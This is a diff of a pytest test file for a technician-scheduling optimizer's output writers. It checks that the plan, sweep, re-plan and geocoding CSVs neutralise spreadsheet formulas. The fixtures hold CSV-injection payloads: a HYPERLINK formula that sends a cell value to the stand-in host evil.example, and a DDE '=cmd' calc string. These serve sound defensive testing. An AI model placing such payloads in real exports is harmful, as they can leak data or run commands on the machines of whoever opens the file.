@@ -1,19 +1,29 @@
-"""Writing the schedule's tables: stops.csv, unassigned.csv, kpis_by_technician.csv."""
+"""Every file the tool writes: a plan, a comparison, a sweep, a re-plan, the geocoding CSVs;
+each CSV safe to open in a spreadsheet."""
 
 from __future__ import annotations
 
 import csv
 import json
 from dataclasses import replace
+from pathlib import Path
 
 import pandas as pd
+import pytest
 from factories import FAST, at, line_matrix, order, problem, shift, tech
 
-from optimizer import api
-from optimizer.io.schedule_json import read_json
+from optimizer import api, outputs
+from optimizer import settings as app_settings
+from optimizer.geo.geocode import GeocodeResult, GeocodeRow
+from optimizer.io.load import load_scenario
+from optimizer.io.schedule_json import read_document, read_json
 from optimizer.outputs import safe_cell, safe_frame, write_outputs
+from optimizer.replanning import Event
 from optimizer.report.kpis import with_kpis
 from optimizer.solver import solve
+from optimizer.sweeps import expand, run_serial
+
+TINY = Path(__file__).parent / "data" / "tiny"
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -64,7 +74,7 @@ def test_schedule_tables_neutralise_formulas(tmp_path):
 def test_sweep_csv_neutralises_formulas(tmp_path):
     """sweep.csv quotes a formula in a text cell and keeps negative numbers as numbers."""
     rows = [{"run": "=2+2", "technicians": -1.0, "status": "failed", "error": "@boom"}]
-    paths = api.write_sweep(rows, ["technicians"], tmp_path)
+    paths = outputs.write_sweep(rows, ["technicians"], tmp_path)
     assert _read(paths["table"]) == [{"run": "'=2+2", "technicians": "-1.0",
                                       "status": "failed", "error": "'@boom"}]
 
@@ -104,3 +114,142 @@ def test_unassigned_csv_has_a_code_beside_the_reason(tmp_path):
         assert next(csv.reader(stream)) == ["order_id", "customer", "priority", "code", "reason"]
     assert _read(path) == [{"order_id": "A", "customer": "Customer A", "priority": "normal",
                             "code": "NO_SKILL", "reason": "no technician has the skill lift"}]
+
+
+@pytest.fixture(scope="module")
+def plan():
+    """The tiny scenario solved once: T1 does WO-1, T2 does WO-2 then WO-3."""
+    return api.solve_scenario(TINY, solution_limit=5)
+
+
+def test_write_a_plan_gives_its_tables_and_maps(plan, tmp_path):
+    """A plan is schedule.json, the three CSVs and the maps (index, overview, one page per
+    technician); the tables hold the schedule's values."""
+    paths = outputs.write(plan, tmp_path)
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "index.html", "kpis_by_technician.csv", "overview.html", "schedule.json", "stops.csv",
+        "tech-T1.html", "tech-T2.html", "unassigned.csv"]
+    assert set(paths) == {"json", "stops", "unassigned", "technicians", "maps"}
+    assert paths["maps"] == tmp_path / "index.html"
+    stops = _read(paths["stops"])
+    assert [(r["tech_id"], r["seq"], r["order_id"]) for r in stops] == \
+        [(route.tech_id, str(k), stop.order_id) for route in plan.schedule.routes
+         for k, stop in enumerate(route.stops, start=1)]
+    assert {r["order_id"]: r["customer"] for r in stops}["WO-1"] == "Frick AG"
+    assert _read(paths["unassigned"]) == []
+    techs = {r["tech_id"]: int(r["orders"]) for r in _read(paths["technicians"])}
+    assert techs == {t.tech_id: t.orders for t in plan.schedule.kpis.technicians}
+    assert read_json(paths["json"]).meta.scenario == str(TINY)
+
+
+def test_write_without_a_folder_goes_under_settings_output_dir(plan, tmp_path, monkeypatch):
+    """With no folder, a plan goes to settings.output_dir/<scenario name>; maps=False skips
+    the pages."""
+    monkeypatch.setattr(app_settings, "output_dir", tmp_path / "out")
+    paths = outputs.write(plan, maps=False)
+    assert paths["json"] == tmp_path / "out" / "tiny" / "schedule.json"
+    assert "maps" not in paths and not (tmp_path / "out" / "tiny" / "index.html").exists()
+    assert outputs.default_folder("../../x", "sweep-") == tmp_path / "out" / "sweep-x"
+
+
+def test_write_a_comparison_gives_its_page_and_one_kpi_row_per_scenario(tmp_path):
+    """compare.csv has the base first, then each what-if, by name; compare.html names both."""
+    whatif = tmp_path / "no-t2"
+    whatif.mkdir()
+    (whatif / "scenario.toml").write_text(
+        f'[scenario]\nname = "no-t2"\nbase = "{TINY.resolve().as_posix()}"\n\n'
+        '[[changes]]\ntype = "remove_technician"\ntech_id = "T2"\n', encoding="utf-8")
+    comparison = api.compare(TINY, [whatif], solution_limit=5)
+    page = outputs.write_comparison(comparison, tmp_path / "cmp")
+    assert page == tmp_path / "cmp" / "compare.html"
+    assert sorted(p.name for p in page.parent.iterdir()) == ["compare.csv", "compare.html"]
+    rows = _read(tmp_path / "cmp" / "compare.csv")
+    assert [r["scenario"] for r in rows] == ["tiny", "no-t2"]
+    assert [float(r["unassigned"]) for r in rows] == [0, 2]
+    assert float(rows[0]["scheduled"]) == comparison.rows[0]["scheduled"] == 3
+    assert "no-t2" in page.read_text(encoding="utf-8")
+
+
+def test_write_a_sweep_gives_its_table_and_page(tmp_path):
+    """sweep.csv has one row per run, in grid order, with its axis value and KPIs."""
+    loaded = load_scenario(TINY)
+    runs = expand(loaded.problem, {"technicians": [1, 2]})
+    rows = run_serial(runs, api.travel_matrix(loaded.problem, also=[r.problem for r in runs]),
+                      loaded.params.with_overrides(solution_limit=5))
+    paths = outputs.write_sweep(rows, ["technicians"], tmp_path)
+    assert paths == {"table": tmp_path / "sweep.csv", "report": tmp_path / "sweep.html"}
+    table = _read(paths["table"])
+    assert [(r["run"], r["technicians"], r["status"]) for r in table] == \
+        [("technicians=1", "1", "ok"), ("technicians=2", "2", "ok")]
+    assert [float(r["scheduled"]) for r in table] == [row["scheduled"] for row in rows]
+    assert "technicians" in paths["report"].read_text(encoding="utf-8")
+
+
+def test_write_a_replan_keeps_the_old_plan_and_lists_the_changes(plan, tmp_path):
+    """Written over the published plan: the old schedule.json is kept as
+    schedule-before-HHMM.json, changes.csv names the cancelled order, schedule.json records
+    the re-plan, and `verify` accepts it with no other input."""
+    outputs.write(plan, tmp_path)
+    result = api.replan(tmp_path / "schedule.json", [Event("cancelled", order_id="WO-3")],
+                        "12:00", solution_limit=5)
+    paths = outputs.write_replan(result, tmp_path)
+    assert paths["changes"] == tmp_path / "changes.csv"
+    assert (tmp_path / "schedule-before-1200.json").exists()
+    changes = {r["order_id"]: r for r in _read(paths["changes"])}
+    assert list(_read(paths["changes"])[0]) == list(outputs.CHANGE_COLUMNS)
+    assert (changes["WO-3"]["status"], changes["WO-3"]["old_tech"]) == ("cancelled", "T2")
+    assert changes["WO-3"]["old_start"] == "13:00"
+    assert sorted(changes) == ["WO-1", "WO-2", "WO-3"]
+    assert (changes["WO-1"]["status"], changes["WO-1"]["old_start"]) == ("completed", "09:00")
+    _schedule, record = read_document(paths["json"])
+    assert record.cancelled == ("WO-3",) and f"{record.now:%H:%M}" == "12:00"
+    assert api.verify_file(paths["json"]) == []
+
+
+def test_replan_warnings_are_rows_of_changes_csv(plan, tmp_path):
+    """A warning of the change list is a `warning` row with the text as its reason."""
+    events = [Event("completed", order_id="WO-1"),
+              Event("duration", order_id="WO-1", service_min=10, source="e.csv row 3")]
+    result = api.replan(plan.schedule, events, "12:00", scenario=TINY, solution_limit=5)
+    assert result.changes.warnings
+    rows = _read(outputs.write_replan(result, tmp_path)["changes"])
+    warned = [r for r in rows if r["status"] == "warning"]
+    assert [r["reason"] for r in warned] == list(result.changes.warnings)
+    assert all(r["order_id"] == "" for r in warned)
+
+
+def test_geocode_csvs_neutralise_formulas(tmp_path):
+    """Addresses, customers and headers that start like a formula get a leading quote;
+    negative coordinates stay numbers."""
+    source = tmp_path / "work_orders.csv"
+    source.write_text('order_id,customer,address,@col\nWO-1,"=HYPERLINK(""x"")",'
+                      '"-Main St 1",+41 79\n', encoding="utf-8")
+    row = GeocodeRow("WO-1", "-Main St 1", "ok", confidence=1.0,
+                     matched_address="=cmd|' /C calc'!A0", lat=-33.5, lon=-70.25)
+    result = GeocodeResult((), (row,), "test")
+    with open(outputs.write_geocoded_work_orders(tmp_path / "g.csv", result, source=source),
+              encoding="utf-8", newline="") as stream:
+        orders = list(csv.reader(stream))
+    assert orders[0][:4] == ["order_id", "customer", "address", "'@col"]
+    assert orders[1][:8] == ["WO-1", "'=HYPERLINK(\"x\")", "'-Main St 1", "'+41 79",
+                             "-33.5000000", "-70.2500000", "'=cmd|' /C calc'!A0", "1"]
+    with open(outputs.write_geocode_report(tmp_path / "r.csv", result),
+              encoding="utf-8", newline="") as stream:
+        report = list(csv.reader(stream))
+    assert report[1][:8] == ["WO-1", "'-Main St 1", "ok", "", "1", "'=cmd|' /C calc'!A0",
+                             "-33.5000000", "-70.2500000"]
+
+
+def test_write_geocoding_gives_both_csvs_of_a_scenario(tmp_path):
+    """`fsopt geocode` writes geocoded_work_orders.csv (the scenario's work orders, with
+    the geocoded columns) and geocode_report.csv, one row per address asked."""
+    loaded = load_scenario(TINY)
+    row = GeocodeRow("WO-1", "Städtle 1, 9490 Vaduz", "not_found", reason="address not found")
+    paths = outputs.write_geocoding(loaded, GeocodeResult((), (row,), "test"), tmp_path)
+    assert paths == {"geocoded": tmp_path / "geocoded_work_orders.csv",
+                     "report": tmp_path / "geocode_report.csv"}
+    geocoded = {r["order_id"]: r for r in _read(paths["geocoded"])}
+    assert (geocoded["WO-1"]["lat"], geocoded["WO-1"]["geocode_status"]) == ("", "not_found")
+    assert (geocoded["WO-2"]["lat"], geocoded["WO-2"]["geocode_status"]) == ("47.1653", "given")
+    assert [(r["order_id"], r["status"], r["reason"]) for r in _read(paths["report"])] == \
+        [("WO-1", "not_found", "address not found")]
